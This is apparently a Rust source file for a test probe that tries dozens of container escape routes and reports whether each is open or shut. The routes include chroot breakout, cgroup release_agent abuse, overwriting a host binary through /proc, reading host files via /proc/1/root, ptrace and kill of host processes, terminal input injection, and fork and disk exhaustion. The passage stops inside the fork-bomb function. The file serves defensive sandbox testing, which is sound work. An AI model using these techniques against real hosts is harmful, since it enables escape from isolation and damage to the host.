//! A tenant that wants out. `probe <name>` tries one way; it prints `open <what it got>` and ends
//! with 0 where the way is open, and prints `shut <why>` and ends with 1 where it is not.
//!
//! The escape suite (`tests/it/escape`) runs it inside containers, where every way has to be
//! shut, and in a deliberately weakened place, where the same try has to succeed. It does no
//! harm where it succeeds: settings are written back as they were read, and nothing is kept.
//! `probe swap <path> <path>` exchanges two names without end; `probe hold mapped|in-flight <directory>` fills a disk
//! with files that no descriptor is open for. `probe within <name>` gives up, first, what a container lacks by default.
//! `CANARY` names a file of the host, and `VICTIM` the number of a process of the host.

use std::ffi::{CString, c_long};
use std::fs::{self, File, OpenOptions};
use std::io::{self, Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::process::ExitCode;
use std::time::{Duration, Instant};

/// What was got hold of, or why not.
type Outcome = Result<String, String>;

/// One way out, by the name that the suite calls it.
struct Probe {
    name: &'static str,
    attempt: fn() -> Outcome,
}

#[rustfmt::skip]
const PROBES: &[Probe] = &[
    Probe { name: "add-key", attempt: add_key },
    Probe { name: "alg-socket", attempt: || socket(libc::AF_ALG, libc::SOCK_SEQPACKET, 0) },
    Probe { name: "all-capabilities", attempt: all_capabilities },
    Probe { name: "bpf", attempt: bpf },
    Probe { name: "canary", attempt: canary },
    Probe { name: "cgroup-write", attempt: cgroup_write },
    Probe { name: "chroot-breakout", attempt: chroot_breakout },
    Probe { name: "clone-user-namespace", attempt: clone_user_namespace },
    Probe { name: "clone3-user-namespace", attempt: clone3_user_namespace },
    Probe { name: "core-pattern", attempt: || write_back("/proc/sys/kernel/core_pattern") },
    Probe { name: "debugfs", attempt: || mount("debugfs", "") },
    Probe { name: "device-files", attempt: || device_files(|_| true) },
    Probe { name: "exe-overwrite", attempt: exe_overwrite },
    Probe { name: "fork-bomb", attempt: fork_bomb },
    Probe { name: "host-processes", attempt: host_processes },
    Probe { name: "hostname", attempt: hostname },
    Probe { name: "io-uring", attempt: io_uring },
    Probe { name: "kcore", attempt: || read_some("/proc/kcore") },
    Probe { name: "kernel-log", attempt: kernel_log },
    Probe { name: "keyring", attempt: keyring },
    Probe { name: "kill-outside", attempt: kill_outside },
    Probe { name: "leaked-descriptors", attempt: leaked_descriptors },
    Probe { name: "link-settings", attempt: link_settings },
    Probe { name: "masked-paths", attempt: masked_paths },
    Probe { name: "memory-bomb", attempt: memory_bomb },
    Probe { name: "mknod-block", attempt: mknod_block },
    Probe { name: "mknod-kmsg", attempt: mknod_kmsg },
    Probe { name: "mount", attempt: || mount("tmpfs", "") },
    Probe { name: "new-mount-api", attempt: new_mount_api },
    Probe { name: "new-privileges", attempt: || status_is("NoNewPrivs", "0") },
    Probe { name: "no-system-call-filter", attempt: || status_is("Seccomp", "0") },
    Probe { name: "open-by-handle", attempt: open_by_handle },
    Probe { name: "packet-socket", attempt: || socket(libc::AF_PACKET, libc::SOCK_RAW, 0x0300) },
    Probe { name: "perf-events", attempt: perf_events },
    Probe { name: "personality", attempt: personality },
    Probe { name: "pivot-root", attempt: pivot_root },
    Probe { name: "proc-1-root", attempt: proc_1_root },
    Probe { name: "ptrace-outside", attempt: ptrace_outside },
    Probe { name: "rare-sockets", attempt: rare_sockets },
    Probe { name: "raw-socket", attempt: || socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP) },
    Probe { name: "real-time-priority", attempt: real_time_priority },
    Probe { name: "release-agent", attempt: release_agent },
    Probe { name: "remount", attempt: remount },
    Probe { name: "root-device-files", attempt: || device_files(|mode| mode & 0o007 == 0) },
    Probe { name: "set-namespace", attempt: set_namespace },
    Probe { name: "sys-write", attempt: sys_write },
    Probe { name: "sysctl", attempt: || write_back("/proc/sys/vm/swappiness") },
    Probe { name: "sysrq", attempt: sysrq },
    Probe { name: "terminal-input", attempt: terminal_input },
    Probe { name: "trusted-attribute", attempt: trusted_attribute },
    Probe { name: "unmapped-user", attempt: unmapped_user },
    Probe { name: "unmask", attempt: unmask },
    Probe { name: "unshare-mounts", attempt: || unshare(libc::CLONE_NEWNS) },
    Probe { name: "unshare-user-namespace", attempt: || unshare(libc::CLONE_NEWUSER) },
    Probe { name: "user-fault", attempt: user_fault },
    Probe { name: "user-namespace-of-host", attempt: user_namespace_of_host },
    Probe { name: "vsock", attempt: || socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0) },
];

fn main() -> ExitCode {
    let mut name = std::env::args().nth(1).unwrap_or_default();
    if name == "list" {
        for probe in PROBES {
            println!("{}", probe.name);
        }
        return ExitCode::SUCCESS;
    }
    if let (Some(one), Some(other), "swap") = (
        std::env::args().nth(2),
        std::env::args().nth(3),
        name.as_str(),
    ) {
        swap(&one, &other);
    }
    if name == "hold" {
        let word = |number| std::env::args().nth(number).unwrap_or_default();
        let ended = hold(&word(2), &word(3));
        println!("ended: {ended:?}");
        return ExitCode::FAILURE;
    }
    if name == "within" {
        give_up().expect("rights can always be given up");
        name = std::env::args().nth(2).unwrap_or_default();
    }
    let Some(probe) = PROBES.iter().find(|probe| probe.name == name) else {
        eprintln!("usage: probe list|<name>");
        return ExitCode::from(2);
    };
    match (probe.attempt)() {
        Ok(got) => {
            println!("open {}", got.escape_debug());
            ExitCode::SUCCESS
        }
        Err(why) => {
            println!("shut {}", why.escape_debug());
            ExitCode::FAILURE
        }
    }
}

/// One system call; pointers travel as numbers and are kept alive by the caller.
#[expect(
    unsafe_code,
    reason = "a probe makes the calls that no safe crate offers"
)]
fn call(number: c_long, arguments: [usize; 6]) -> io::Result<usize> {
    let [a, b, c, d, e, f] = arguments;
    // SAFETY: whatever a call here writes to is a local of its caller, of the size that the kernel
    // writes; forks run nothing but further calls of this kind.
    let result = unsafe { libc::syscall(number, a, b, c, d, e, f) };
    usize::try_from(result).map_err(|_| io::Error::last_os_error())
}

/// Exchanges two names without rest, for others who walk through them.
fn swap(one: &str, other: &str) -> ! {
    let (one, other) = (text(one), text(other));
    let (at, exchange) = (libc::AT_FDCWD as usize, 2);
    println!("up");
    loop {
        let (one, other) = (one.as_ptr().addr(), other.as_ptr().addr());
        if let Err(error) = call(libc::SYS_renameat2, [at, one, at, other, exchange, 0]) {
            println!("not swapped: {error}");
        }
    }
}

/// The capabilities of a container by default.
const DEFAULT_CAPABILITIES: u64 = 0x8004_05fb;

/// Gives up every capability but those, and all rights that executing could give.
fn give_up() -> io::Result<()> {
    for number in 0..64 {
        if DEFAULT_CAPABILITIES >> number & 1 == 0 {
            let drop = libc::PR_CAPBSET_DROP as usize;
            // The kernel knows fewer than 64.
            let _ = call(libc::SYS_prctl, [drop, number, 0, 0, 0, 0]);
        }
    }
    let kept = (DEFAULT_CAPABILITIES & u64::from(u32::MAX)) as u32;
    let (header, data) = ([0x2008_0522_u32, 0], [kept, kept, 0, 0, 0, 0]);
    let (header, data) = (address(&header), address(&data));
    call(libc::SYS_capset, [header, data, 0, 0, 0, 0])?;
    let no_new = libc::PR_SET_NO_NEW_PRIVS as usize;
    call(libc::SYS_prctl, [no_new, 1, 0, 0, 0, 0]).map(drop)
}

/// Writes file after file, each of which loses its name and its descriptor, and is there all the same.
fn hold(how: &str, directory: &str) -> io::Result<()> {
    const BYTES: usize = 4 << 20;
    let (keeps, _reads) = std::os::unix::net::UnixStream::pair()?;
    let block = vec![1; BYTES];
    loop {
        let path = format!("{directory}/held");
        let mut file = OpenOptions::new()
            .create_new(true)
            .read(true)
            .write(true)
            .open(&path)?;
        file.write_all(&block)?;
        fs::remove_file(&path)?;
        let descriptor = file.as_raw_fd() as usize;
        let (read, shared) = (libc::PROT_READ as usize, libc::MAP_SHARED as usize);
        match how {
            "mapped" => call(libc::SYS_mmap, [0, BYTES, read, shared, descriptor, 0]).map(drop)?,
            _ => send_along(&keeps, &file)?,
        }
    }
}

/// Leaves a descriptor in a socket that nobody reads.
fn send_along(socket: &std::os::unix::net::UnixStream, file: &File) -> io::Result<()> {
    use rustix::net::{SendAncillaryBuffer, SendAncillaryMessage, SendFlags, sendmsg};
    use std::os::fd::AsFd;
    let mut space = [std::mem::MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut control = SendAncillaryBuffer::new(&mut space);
    let descriptors = [file.as_fd()];
    control.push(SendAncillaryMessage::ScmRights(&descriptors));
    let bytes = [io::IoSlice::new(b"x")];
    sendmsg(socket, &bytes, &mut control, SendFlags::empty())?;
    Ok(())
}

/// The error as the suite compares it: by the name of its number.
fn why(error: io::Error) -> String {
    let name = match error.raw_os_error() {
        Some(libc::EPERM) => "EPERM",
        Some(libc::EACCES) => "EACCES",
        Some(libc::ENOENT) => "ENOENT",
        Some(libc::ENOSYS) => "ENOSYS",
        Some(libc::EROFS) => "EROFS",
        Some(libc::ESRCH) => "ESRCH",
        Some(libc::EINVAL) => "EINVAL",
        Some(libc::EAGAIN) => "EAGAIN",
        _ => return error.to_string(),
    };
    name.to_owned()
}

fn text(text: &str) -> CString {
    CString::new(text).expect("no zero in it")
}

fn address<T: ?Sized>(of: &T) -> usize {
    std::ptr::from_ref(of).cast::<u8>().addr()
}

fn tried(number: c_long, arguments: [usize; 6], got: &str) -> Outcome {
    call(number, arguments).map_err(why)?;
    Ok(got.to_owned())
}

fn variable(name: &str) -> Result<String, String> {
    std::env::var(name).map_err(|_| format!("{name} is not set"))
}

/// A directory of one's own.
fn own_directory(name: &str) -> Result<String, String> {
    let path = format!("/tmp/{name}-{}", std::process::id());
    fs::create_dir_all(&path).map_err(why)?;
    Ok(path)
}

fn read_some(path: &str) -> Outcome {
    let mut byte = [0];
    let mut file = File::open(path).map_err(why)?;
    match file.read(&mut byte).map_err(why)? {
        0 => Err(format!("{path} is empty")),
        _ => Ok(format!("read {path}")),
    }
}

/// Writes a setting as it is.
fn write_back(path: &str) -> Outcome {
    let value = fs::read(path).map_err(why)?;
    let mut file = OpenOptions::new().write(true).open(path).map_err(why)?;
    file.write_all(value.trim_ascii_end()).map_err(why)?;
    Ok(format!("wrote {path}"))
}

fn mount(kind: &str, options: &str) -> Outcome {
    let path = own_directory("mount")?;
    mount_at(kind, &path, options)?;
    let target = text(&path);
    let _ = call(
        libc::SYS_umount2,
        [address(target.as_c_str()), 0, 0, 0, 0, 0],
    );
    Ok(format!("mounted {kind}"))
}

fn mount_at(kind: &str, path: &str, options: &str) -> Result<(), String> {
    let (kind, path, options) = (text(kind), text(path), text(options));
    let arguments = [
        kind.as_ptr().addr(),
        path.as_ptr().addr(),
        kind.as_ptr().addr(),
        0,
        options.as_ptr().addr(),
        0,
    ];
    call(libc::SYS_mount, arguments).map(drop).map_err(why)
}

fn new_mount_api() -> Outcome {
    let kind = text("tmpfs");
    tried(
        libc::SYS_fsopen,
        [kind.as_ptr().addr(), 0, 0, 0, 0, 0],
        "a file system",
    )
}

/// Takes away what hides a file of the host.
fn unmask() -> Outcome {
    let mut last = "nothing is masked".to_owned();
    for path in ["/proc/keys", "/proc/kcore", "/sys/firmware"] {
        let target = text(path);
        let detach = libc::MNT_DETACH.cast_unsigned() as usize;
        let arguments = [target.as_ptr().addr(), detach, 0, 0, 0, 0];
        match call(libc::SYS_umount2, arguments) {
            Ok(_) => return Ok(format!("unmasked {path}")),
            Err(error) => last = why(error),
        }
    }
    Err(last)
}

/// Makes what is read-only writable.
fn remount() -> Outcome {
    let mut last = "nothing is read-only".to_owned();
    for path in ["/ro", "/proc/sys", "/sys"] {
        let target = text(path);
        let flags = (libc::MS_REMOUNT | libc::MS_BIND) as usize;
        let arguments = [0, target.as_ptr().addr(), 0, flags, 0, 0];
        match call(libc::SYS_mount, arguments) {
            Ok(_) => return Ok(format!("remounted {path}")),
            Err(error) => last = why(error),
        }
    }
    Err(last)
}

fn pivot_root() -> Outcome {
    let path = own_directory("root")?;
    // Without a mount of its own, a new root is refused for another reason than the right to it.
    let _ = call(
        libc::SYS_unshare,
        [libc::CLONE_NEWNS as usize, 0, 0, 0, 0, 0],
    );
    let _ = mount_at("tmpfs", &path, "");
    let target = text(&path);
    let pointer = target.as_ptr().addr();
    match call(libc::SYS_pivot_root, [pointer, pointer, 0, 0, 0, 0]) {
        Ok(_) => Ok("another root".to_owned()),
        // The kernel looks at the right to it first; what else is wrong, it says only to those who have it.
        Err(error) if error.raw_os_error() == Some(libc::EINVAL) => {
            Ok("the right to another root".to_owned())
        }
        Err(error) => Err(why(error)),
    }
}

fn unshare(flags: i32) -> Outcome {
    tried(
        libc::SYS_unshare,
        [flags as usize, 0, 0, 0, 0, 0],
        "a namespace of its own",
    )
}

fn clone_user_namespace() -> Outcome {
    let flags = libc::CLONE_NEWUSER | libc::SIGCHLD;
    match call(libc::SYS_clone, [flags as usize, 0, 0, 0, 0, 0]).map_err(why)? {
        0 => end(),
        _ => Ok("a process in a user namespace of its own".to_owned()),
    }
}

fn clone3_user_namespace() -> Outcome {
    // flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls
    let arguments: [u64; 8] = [
        libc::CLONE_NEWUSER as u64,
        0,
        0,
        0,
        libc::SIGCHLD as u64,
        0,
        0,
        0,
    ];
    let size = size_of_val(&arguments);
    match call(libc::SYS_clone3, [address(&arguments), size, 0, 0, 0, 0]).map_err(why)? {
        0 => end(),
        _ => Ok("a process in a user namespace of its own".to_owned()),
    }
}

fn end() -> ! {
    let _ = call(libc::SYS_exit_group, [0; 6]);
    unreachable!("a process outlived its end")
}

fn set_namespace() -> Outcome {
    let file = File::open("/proc/self/ns/uts").map_err(why)?;
    let arguments = [
        file.as_raw_fd() as usize,
        libc::CLONE_NEWUTS as usize,
        0,
        0,
        0,
        0,
    ];
    tried(libc::SYS_setns, arguments, "a namespace by its file")
}

/// Leaves a root that is only a starting point for lookups, as `chroot` alone makes it.
fn chroot_breakout() -> Outcome {
    let canary = variable("CANARY")?;
    let path = text(&own_directory("jail")?);
    let arguments = [path.as_ptr().addr(), 0, 0, 0, 0, 0];
    // The working directory stays behind, above the new root.
    call(libc::SYS_chroot, arguments).map_err(why)?;
    for _ in 0..64 {
        let _ = std::env::set_current_dir("..");
    }
    let here = text(".");
    let arguments = [here.as_ptr().addr(), 0, 0, 0, 0, 0];
    call(libc::SYS_chroot, arguments).map_err(why)?;
    fs::read_to_string(canary).map_err(why)
}

/// Opens an inode by its number, past all directories.
fn open_by_handle() -> Outcome {
    let mut handle = [0u8; 8 + 128];
    handle[..4].copy_from_slice(&128u32.to_ne_bytes());
    // A file system that has handles in containers, too.
    let path = text("/dev");
    let mut mount = 0i32;
    let (mount_address, at) = (address(&mount), libc::AT_FDCWD as usize);
    let arguments = [
        at,
        path.as_ptr().addr(),
        handle.as_mut_ptr().addr(),
        mount_address,
        0,
        0,
    ];
    call(libc::SYS_name_to_handle_at, arguments).map_err(why)?;
    mount = std::hint::black_box(mount);
    let root = File::open("/dev").map_err(why)?;
    let arguments = [
        root.as_raw_fd() as usize,
        handle.as_ptr().addr(),
        0,
        0,
        0,
        0,
    ];
    tried(
        libc::SYS_open_by_handle_at,
        arguments,
        &format!("a file by its handle, mount {mount}"),
    )
}

fn hostname() -> Outcome {
    let name = b"elsewhere";
    let arguments = [name.as_ptr().addr(), name.len(), 0, 0, 0, 0];
    tried(libc::SYS_sethostname, arguments, "another host name")
}

fn kernel_log() -> Outcome {
    let mut buffer = [0u8; 256];
    let read_all = 3;
    let arguments = [read_all, buffer.as_mut_ptr().addr(), buffer.len(), 0, 0, 0];
    tried(libc::SYS_syslog, arguments, "the kernel's log")
}

fn sysrq() -> Outcome {
    let path = "/proc/sysrq-trigger";
    let mut file = OpenOptions::new().write(true).open(path).map_err(why)?;
    // Only asks for help, which goes to the kernel's log.
    file.write_all(b"h").map_err(why)?;
    Ok("the kernel's emergency keys".to_owned())
}

fn sys_write() -> Outcome {
    let mut last = "no setting is there".to_owned();
    for path in [
        "/sys/kernel/mm/transparent_hugepage/enabled",
        "/sys/kernel/mm/ksm/run",
        "/sys/kernel/profiling",
        "/sys/module/printk/parameters/time",
        "/sys/bus/pci/rescan",
    ] {
        match OpenOptions::new().write(true).open(path) {
            Ok(_) => return Ok(format!("opened {path} for writing")),
            Err(error) => last = why(error),
        }
    }
    Err(last)
}

fn cgroup_write() -> Outcome {
    let mut last = "no control group is to be seen".to_owned();
    let mut todo = vec![std::path::PathBuf::from("/sys/fs/cgroup")];
    let mut left = 2_000;
    while let Some(directory) = todo.pop() {
        for entry in fs::read_dir(directory).into_iter().flatten().flatten() {
            left -= 1;
            if left == 0 {
                return Err(last);
            }
            let path = entry.path();
            if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
                todo.push(path);
                continue;
            }
            match OpenOptions::new().write(true).open(&path) {
                Ok(_) => return Ok(format!("opened {} for writing", path.display())),
                Err(error) => last = why(error),
            }
        }
    }
    Err(last)
}

/// A hierarchy of its own, whose release agent the kernel runs as the host's root.
fn release_agent() -> Outcome {
    let path = own_directory("groups")?;
    mount_at("cgroup", &path, "none,name=allod-probe")?;
    let agent = format!("{path}/release_agent");
    let written = fs::write(&agent, "/bin/true");
    let _ = fs::write(&agent, "");
    let target = text(&path);
    let _ = call(libc::SYS_umount2, [target.as_ptr().addr(), 0, 0, 0, 0, 0]);
    written.map_err(why)?;
    Ok("a program that the host's kernel runs".to_owned())
}

fn mknod(name: &str, kind: u32, device: u64) -> Result<File, String> {
    let path = format!("/tmp/{name}-{}", std::process::id());
    let place = text(&path);
    let mode = (kind | 0o600) as usize;
    let at = libc::AT_FDCWD as usize;
    let arguments = [at, place.as_ptr().addr(), mode, device as usize, 0, 0];
    call(libc::SYS_mknodat, arguments).map_err(why)?;
    let opened = OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK)
        .open(&path);
    let _ = fs::remove_file(&path);
    opened.map_err(why)
}

fn mknod_block() -> Outcome {
    let table = fs::read_to_string("/proc/partitions").map_err(why)?;
    let disks = table.lines().skip(2).filter_map(|line| {
        let mut fields = line.split_ascii_whitespace();
        let major = fields.next()?.parse().ok()?;
        Some((major, fields.next()?.parse().ok()?))
    });
    let mut last = String::new();
    // The last one is the first loop device, which is there where disks are kept from everybody.
    for (major, minor) in disks.chain([(7, 0)]) {
        match mknod("disk", libc::S_IFBLK, libc::makedev(major, minor)) {
            Ok(_) => return Ok(format!("opened the block device {major}:{minor}")),
            Err(why) => last = why,
        }
    }
    Err(last)
}

fn mknod_kmsg() -> Outcome {
    mknod("kmsg", libc::S_IFCHR, libc::makedev(1, 11))?;
    Ok("opened the kernel's log as a device".to_owned())
}

/// Device files whose mode `is_meant`: some hosts let every user open a few.
fn device_files(is_meant: fn(u32) -> bool) -> Outcome {
    let mut refused = None;
    for name in [
        "kmsg",
        "mem",
        "vda",
        "sda",
        "nvme0n1",
        "fuse",
        "net/tun",
        "loop-control",
        "kvm",
        "uinput",
        "vhost-net",
        "console",
    ] {
        let path = format!("/dev/{name}");
        let Ok(metadata) = fs::metadata(&path) else {
            continue;
        };
        if !is_meant(metadata.mode()) {
            continue;
        }
        let mut options = OpenOptions::new();
        options.read(true).custom_flags(libc::O_NONBLOCK);
        match options.open(&path) {
            Ok(_) => return Ok(format!("opened {path}")),
            Err(error) => refused = Some(why(error)),
        }
    }
    Err(refused.unwrap_or_else(|| "no device is there".to_owned()))
}

fn masked_paths() -> Outcome {
    for path in [
        "/proc/kcore",
        "/proc/keys",
        "/proc/timer_list",
        "/proc/interrupts",
        "/proc/sched_debug",
    ] {
        if read_some(path).is_ok() {
            return Ok(format!("read {path}"));
        }
    }
    for path in ["/sys/firmware", "/proc/acpi", "/proc/scsi"] {
        if fs::read_dir(path).is_ok_and(|mut entries| entries.next().is_some()) {
            return Ok(format!("listed {path}"));
        }
    }
    Err("all are masked".to_owned())
}

fn add_key() -> Outcome {
    let (kind, name) = (text("user"), text("allod-probe"));
    let process_keyring = -2isize;
    let arguments = [
        kind.as_ptr().addr(),
        name.as_ptr().addr(),
        name.as_ptr().addr(),
        5,
        process_keyring.cast_unsigned(),
        0,
    ];
    tried(libc::SYS_add_key, arguments, "a key in the kernel")
}

fn keyring() -> Outcome {
    let session_keyring = -3isize;
    let arguments = [0, session_keyring.cast_unsigned(), 0, 0, 0, 0];
    tried(libc::SYS_keyctl, arguments, "the session's keyring")
}

fn io_uring() -> Outcome {
    let parameters = [0u8; 120];
    let arguments = [4, address(&parameters), 0, 0, 0, 0];
    tried(libc::SYS_io_uring_setup, arguments, "a ring")
}

fn user_fault() -> Outcome {
    // Without the flag for user mode only, which needs no right on ordinary hosts.
    let flags = libc::O_CLOEXEC as usize;
    tried(
        libc::SYS_userfaultfd,
        [flags, 0, 0, 0, 0, 0],
        "page faults of the kernel",
    )
}

fn bpf() -> Outcome {
    // An array of one entry: kind, key size, value size, entries.
    let mut attributes = [0u32; 32];
    attributes[..4].copy_from_slice(&[2, 4, 4, 1]);
    let arguments = [0, address(&attributes), size_of_val(&attributes), 0, 0, 0];
    tried(libc::SYS_bpf, arguments, "a map of the kernel's programs")
}

fn perf_events() -> Outcome {
    // A software counter of processor time over all processes of processor 0.
    let mut attributes = [0u32; 32];
    attributes[0] = 1;
    attributes[1] = size_of_val(&attributes) as u32;
    let all = usize::MAX;
    let arguments = [address(&attributes), all, 0, all, 0, 0];
    tried(
        libc::SYS_perf_event_open,
        arguments,
        "a counter over all processes",
    )
}

fn personality() -> Outcome {
    let no_random_addresses = 0x0004_0000;
    tried(
        libc::SYS_personality,
        [no_random_addresses, 0, 0, 0, 0, 0],
        "addresses that are not random",
    )
}

fn socket(family: i32, kind: i32, protocol: i32) -> Outcome {
    let arguments = [family as usize, kind as usize, protocol as usize, 0, 0, 0];
    tried(libc::SYS_socket, arguments, "a socket")
}

/// Families that hardly anybody needs, each a part of the kernel that hardly anybody looks at.
fn rare_sockets() -> Outcome {
    let mut last = Err("no family".to_owned());
    // Express data paths, shared memory, inter-process, remote calls, controllers, radio, keys.
    for (family, kind) in [
        (44, 3),
        (43, 1),
        (30, 5),
        (21, 5),
        (29, 3),
        (31, 3),
        (15, 3),
        (41, 2),
    ] {
        last = socket(family, kind, 0);
        if last.is_ok() {
            return Ok(format!("a socket of family {family}"));
        }
    }
    last
}

/// Sets the size of packets on the loopback link.
fn link_settings() -> Outcome {
    let socket = call(
        libc::SYS_socket,
        [
            libc::AF_INET as usize,
            libc::SOCK_DGRAM as usize,
            0,
            0,
            0,
            0,
        ],
    )
    .map_err(why)?;
    let mut request = [0u8; 40];
    request[..2].copy_from_slice(b"lo");
    request[16..20].copy_from_slice(&1500i32.to_ne_bytes());
    let arguments = [
        socket,
        libc::SIOCSIFMTU as usize,
        address(&request),
        0,
        0,
        0,
    ];
    tried(libc::SYS_ioctl, arguments, "another size of packets")
}

/// Types a character for whoever reads from this terminal.
fn terminal_input() -> Outcome {
    let master_file = OpenOptions::new()
        .read(true)
        .write(true)
        .custom_flags(libc::O_NOCTTY)
        .open("/dev/ptmx")
        .map_err(why)?;
    let master = master_file.as_raw_fd() as usize;
    let unlocked = 0i32;
    let ioctl = |fd, number: libc::Ioctl, argument| {
        call(libc::SYS_ioctl, [fd, number as usize, argument, 0, 0, 0]).map_err(why)
    };
    ioctl(master, libc::TIOCSPTLCK, address(&unlocked))?;
    let flags = (libc::O_RDWR | libc::O_NOCTTY) as usize;
    let terminal = ioctl(master, libc::TIOCGPTPEER, flags)?;
    // A process that leads a group cannot lead a session; then the terminal stays nobody's.
    let _ = call(libc::SYS_setsid, [0; 6]);
    let _ = ioctl(terminal, libc::TIOCSCTTY, 0);
    let typed = ioctl(terminal, libc::TIOCSTI, address(b"x"));
    // With its master, the terminal would hang up on this process.
    std::mem::forget(master_file);
    typed?;
    Ok("typed into a terminal".to_owned())
}

fn trusted_attribute() -> Outcome {
    let path = format!("{}/file", own_directory("attribute")?);
    fs::write(&path, "").map_err(why)?;
    let (path, name, value) = (text(&path), text("trusted.overlay.opaque"), b"y");
    let arguments = [
        path.as_ptr().addr(),
        name.as_ptr().addr(),
        value.as_ptr().addr(),
        1,
        0,
        0,
    ];
    tried(
        libc::SYS_setxattr,
        arguments,
        "an attribute overlayfs obeys",
    )
}

fn unmapped_user() -> Outcome {
    let stranger = 3_000_000_000;
    tried(
        libc::SYS_setresuid,
        [stranger, stranger, stranger, 0, 0, 0],
        "the identity of a stranger",
    )
}

fn real_time_priority() -> Outcome {
    let priority = 1i32;
    let first_in_first_out = 1;
    let arguments = [0, first_in_first_out, address(&priority), 0, 0, 0];
    tried(
        libc::SYS_sched_setscheduler,
        arguments,
        "a priority above all ordinary processes",
    )
}

fn status(field: &str) -> Result<String, String> {
    let text = fs::read_to_string("/proc/self/status").map_err(why)?;
    let found = text.lines().find_map(|line| {
        let (name, value) = line.split_once(':')?;
        (name == field).then(|| value.trim().to_owned())
    });
    found.ok_or_else(|| format!("no {field}"))
}

fn status_is(field: &str, value: &str) -> Outcome {
    let found = status(field)?;
    if found == value {
        Ok(format!("{field} is {found}"))
    } else {
        Err(format!("{field} is {found}"))
    }
}

/// Whether the bounding set or the effective one holds what rules the host.
fn all_capabilities() -> Outcome {
    // dac_read_search, net_admin, net_raw, sys_module, sys_rawio, sys_ptrace, sys_admin,
    // sys_boot, sys_resource, sys_time, mknod, mac_admin, syslog, perfmon, bpf.
    let strong = [2, 12, 13, 16, 17, 19, 21, 22, 24, 25, 27, 33, 34, 38, 39];
    let mask = strong.iter().fold(0u64, |mask, bit| mask | 1 << bit);
    for set in ["CapEff", "CapPrm", "CapBnd", "CapInh", "CapAmb"] {
        let held = status(set)?;
        let bits = u64::from_str_radix(&held, 16).map_err(|error| error.to_string())?;
        if bits & mask != 0 {
            return Ok(format!("{set} is {held}"));
        }
    }
    Err(format!("CapEff is {}", status("CapEff")?))
}

fn user_namespace_of_host() -> Outcome {
    let map = fs::read_to_string("/proc/self/uid_map").map_err(why)?;
    let fields: Vec<&str> = map.split_ascii_whitespace().collect();
    if fields.get(1) == Some(&"0") {
        return Ok(format!("uid_map {}", fields.join(" ")));
    }
    Err("root is nobody outside".to_owned())
}

fn host_processes() -> Outcome {
    let victim = variable("VICTIM")?;
    fs::read_to_string(format!("/proc/{victim}/comm")).map_err(why)
}

fn kill_outside() -> Outcome {
    let victim: usize = variable("VICTIM")?.parse().unwrap_or(usize::MAX);
    tried(
        libc::SYS_kill,
        [victim, 0, 0, 0, 0, 0],
        "may signal the host",
    )
}

fn ptrace_outside() -> Outcome {
    let victim: usize = variable("VICTIM")?.parse().unwrap_or(usize::MAX);
    let seize = 0x4206;
    tried(
        libc::SYS_ptrace,
        [seize, victim, 0, 0, 0, 0],
        "holds a process of the host",
    )
}

fn proc_1_root() -> Outcome {
    let (canary, victim) = (variable("CANARY")?, variable("VICTIM")?);
    fs::read_to_string(format!("/proc/1/root{canary}"))
        .or_else(|_| fs::read_to_string(format!("/proc/{victim}/root{canary}")))
        .map_err(why)
}

/// Everything that could lead to a file of the host.
fn canary() -> Outcome {
    let canary = variable("CANARY")?;
    let inner = canary.trim_start_matches('/');
    let up = "../".repeat(40);
    let mut ways = vec![canary.clone(), format!("{up}{inner}")];
    let processes = fs::read_dir("/proc").into_iter().flatten().flatten();
    for process in processes.take(400) {
        let path = process.path();
        ways.push(format!("{}/root{canary}", path.display()));
        ways.push(format!("{}/cwd/{up}{inner}", path.display()));
        for descriptor in fs::read_dir(path.join("fd"))
            .into_iter()
            .flatten()
            .flatten()
        {
            ways.push(format!("{}/{up}{inner}", descriptor.path().display()));
        }
    }
    let link = format!("{}/link", own_directory("link")?);
    if std::os::unix::fs::symlink(format!("/../../../..{canary}"), &link).is_ok() {
        ways.push(link);
    }
    for way in &ways {
        if let Ok(text) = fs::read_to_string(way) {
            return Ok(format!("{way}: {text}"));
        }
    }
    Err(format!("none of {} ways", ways.len().min(5)).replace("5 ways", "many ways"))
}

fn leaked_descriptors() -> Outcome {
    let mut leaked = Vec::new();
    for number in 3..1024 {
        if let Ok(target) = fs::read_link(format!("/proc/self/fd/{number}")) {
            leaked.push(format!("{number} -> {}", target.display()));
        }
    }
    if leaked.is_empty() {
        return Err("only 0 to 2".to_owned());
    }
    Ok(leaked.join(", "))
}

/// Catches a process that runs a program of the host, and writes to the program when it is over.
fn exe_overwrite() -> Outcome {
    let until = Instant::now() + Duration::from_secs(20);
    let own = fs::read_link("/proc/self/exe").map_err(why)?;
    println!("ready");
    let caught = loop {
        if Instant::now() > until {
            return Err("no program of the host came by".to_owned());
        }
        if let Some(caught) = foreign_program(&own) {
            break caught;
        }
    };
    loop {
        let path = format!("/proc/self/fd/{}", caught.as_raw_fd());
        match OpenOptions::new().append(true).open(path) {
            Ok(mut program) => {
                program.write_all(b"overwritten").map_err(why)?;
                return Ok("wrote to a program of the host".to_owned());
            }
            // It still runs.
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => {}
            Err(error) => return Err(why(error)),
        }
        if Instant::now() > until {
            return Err("it never ended".to_owned());
        }
    }
}

/// The program of some process, if it is none of this image: its path names nothing here, or
/// something else.
fn foreign_program(own: &std::path::Path) -> Option<File> {
    for process in fs::read_dir("/proc").ok()?.flatten() {
        let link = process.path().join("exe");
        let Ok(target) = fs::read_link(&link) else {
            continue;
        };
        let Ok(program) = OpenOptions::new()
            .read(true)
            .custom_flags(libc::O_PATH)
            .open(&link)
        else {
            continue;
        };
        let is_marked = target.to_string_lossy().contains("overwrite-me");
        let is_of_image = fs::metadata(&target).is_ok_and(|here| {
            program
                .metadata()
                .is_ok_and(|there| (here.dev(), here.ino()) == (there.dev(), there.ino()))
        });
        let wanted = std::env::var_os("OVERWRITE_MARKED").is_some();
        if target != own && (if wanted { is_marked } else { !is_of_image }) {
            return Some(program);
        }
    }
    None
}

/// More processes than any limit of the suite allows, all ended again.
fn fork_bomb() -> Outcome {
    let mut children = Vec::new();
    let mut outcome = Ok("200 processes".to_owned());
